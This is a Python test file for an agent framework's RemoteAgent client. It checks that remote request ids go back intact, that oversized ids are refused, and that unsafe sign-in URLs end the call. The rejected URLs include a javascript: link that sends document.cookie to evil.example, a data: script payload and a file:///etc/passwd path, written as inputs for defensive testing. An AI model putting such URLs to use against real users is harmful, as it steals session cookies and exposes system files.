"""``RemoteAgent`` at its trust edges, against real a2a-sdk servers: the remote's request id
carried back whole (or a question whose id cannot be carried refused once), and an
authentication URL that is not a web page refused."""

from __future__ import annotations

from typing import Any

import pytest
from a2a_servers import ManyPending, NeedsAuth, Pending, a2a_server

from hpd_agent import Agent, ClarificationRequest
from hpd_agent.a2a import RemoteAgent
from hpd_agent.messages import ToolResultMessage
from hpd_agent.testing import ScriptedHuman, ScriptedModel, text, tool_call

pytestmark = pytest.mark.anyio


async def _agent(url: str) -> tuple[Agent, ScriptedModel]:
    remote = RemoteAgent(url)
    await remote.read_card()
    tool = remote.as_tool()
    model = ScriptedModel([tool_call(tool.name, query="plan a trip"), text("done")])
    return Agent("Orchestrator", model=model, tools=[tool]), model


def _tool_results(messages: list[Any]) -> list[str]:
    return [m.content for m in messages if isinstance(m, ToolResultMessage)]


async def _answer_each(agent: Agent, answer: str) -> tuple[Any, list[ClarificationRequest]]:
    """Run ``agent``, answering every question with ``answer``; a question asked a third
    time cancels the run (the remote never took the answer)."""
    asked: list[ClarificationRequest] = []
    async with agent.stream("go") as run:
        async for event in run:
            if isinstance(event, ClarificationRequest):
                asked.append(event)
                if len(asked) > 2:
                    run.cancel()
                else:
                    await run.respond(event.request_id, answer)
    return run.result, asked


async def test_a_long_remote_request_id_goes_back_whole() -> None:
    long_id = "r-" + "x" * 298  # 300 characters
    executor = ManyPending([Pending(long_id, "Which city?", ["Planner"])])
    with a2a_server(executor) as server:
        agent, model = await _agent(server.url)
        result, asked = await _answer_each(agent, "Rome")
        answers = server.recorder.answers()
    assert len(asked) == 1  # asked once: the remote recognised the answer
    assert [a["metadata"]["request_id"] for a in answers] == [long_id]
    assert executor.answered == [(long_id, "Rome")]
    assert result.status == "completed"
    assert _tool_results(result.messages) == [f"{long_id}=Rome"]
    # The local request id stays short, whatever the remote's id.
    assert len(asked[0].request_id) < 40
    model.assert_complete()


async def test_a_request_id_too_long_to_carry_back_is_refused_once() -> None:
    huge_id = "r-" + "x" * 9_998
    executor = ManyPending([Pending(huge_id, "Which city?", ["Planner"])])
    with a2a_server(executor) as server:
        agent, model = await _agent(server.url)
        result, asked = await _answer_each(agent, "Rome")
        methods = server.recorder.methods()
    assert asked == []  # nobody is asked a question whose answer could not go back
    assert result.status == "completed"
    (content,) = _tool_results(result.messages)
    assert content.startswith(
        "Error: RemoteAgentError: the remote agent asked a question with a request_id of "
        "10,000 characters; answers carry it back whole, up to 4,000"
    )
    assert len(content) < 1_000
    assert methods.count("CancelTask") == 1 and executor.answered == []
    model.assert_complete()


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('https://evil.example/?'+document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "http://login.example.com/",  # plain http off this machine
        "https://login.example.com/" + "x" * 9_000,  # too long to be shown whole
    ],
)
async def test_a_sign_in_url_that_is_not_a_web_page_ends_the_call(url: str) -> None:
    executor = NeedsAuth(url)
    with a2a_server(executor) as server:
        agent, model = await _agent(server.url)
        human = ScriptedHuman().complete_action("", True)  # would follow any link
        result = await agent.run("go", handler=human)
        methods = server.recorder.methods()
    assert human.asked == []
    (content,) = _tool_results(result.messages)
    assert content.startswith(
        "Error: RemoteAgentError: the remote agent asked to sign in at a URL this client "
        "does not open: "
    )
    assert len(content) < 1_000
    assert methods.count("CancelTask") == 1  # the remote is not left waiting
    assert executor.follow_ups == []
    model.assert_complete()
